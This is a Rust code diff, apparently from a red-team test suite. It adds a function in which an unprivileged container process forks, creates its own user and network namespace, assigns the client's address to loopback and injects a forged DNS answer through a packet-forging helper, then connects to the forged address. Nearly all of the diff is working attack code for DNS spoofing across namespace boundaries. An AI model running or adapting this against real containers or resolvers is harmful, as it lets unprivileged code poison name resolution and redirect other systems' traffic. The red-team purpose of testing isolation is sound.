@@ -782,3 +782,41 @@ pub fn packet_forge(resolver: IpAddr, name: &str, forged: IpAddr, port: u16, cli
     };
     format!("{delivered}, then connect {}", connect(forged, port))
 }
+
+/// Red team 2: a held container WITHOUT CAP_NET_RAW (dropped to nobody
+/// here, stricter than a container's root with `--cap-drop NET_RAW`) makes
+/// a user and network namespace of its own, where it holds CAP_NET_RAW
+/// over that namespace, and forges the answer there through AF_PACKET on
+/// that namespace's `lo` (see `packet_forge`). Container targets trust DNS
+/// sockets in any namespace. Then this process, back in the container's
+/// own namespace, connects to FORGED:PORT.
+pub fn userns_packet_forge(resolver: IpAddr, name: &str, forged: IpAddr, port: u16, client: IpAddr) -> String {
+    // SAFETY: single-threaded here; the child exits without returning.
+    let pid = unsafe { libc::fork() };
+    if pid == 0 {
+        let out = match own_namespace(true) {
+            Ok(()) => {
+                // Root of its own user namespace: CAP_NET_ADMIN over its
+                // own network namespace; give lo the client's address.
+                let ip = std::process::Command::new("ip")
+                    .args(["addr", "add", &format!("{client}/32"), "dev", "lo"])
+                    .status();
+                let route = std::process::Command::new("ip")
+                    .args(["route", "add", &format!("{resolver}/32"), "dev", "lo", "src", &client.to_string()])
+                    .status();
+                format!("ip addr: {ip:?}, route: {route:?}; {}", packet_forge(resolver, name, forged, 9, client))
+            }
+            Err(step) => format!("own namespace failed at step {step}"),
+        };
+        let _ = std::fs::write("/tmp/red2-child.txt", &out);
+        let code = if out.contains("forged answer delivered") { 0 } else { 1 };
+        // SAFETY: leaves the child at once.
+        unsafe { libc::_exit(code) };
+    }
+    let mut status = 0;
+    // SAFETY: waits for the child just forked.
+    unsafe { libc::waitpid(pid, &mut status, 0) };
+    let child = std::fs::read_to_string("/tmp/red2-child.txt").unwrap_or_default();
+    let _ = std::fs::remove_file("/tmp/red2-child.txt");
+    format!("child exit {} ({child}), then connect {}", libc::WEXITSTATUS(status), connect(forged, port))
+}
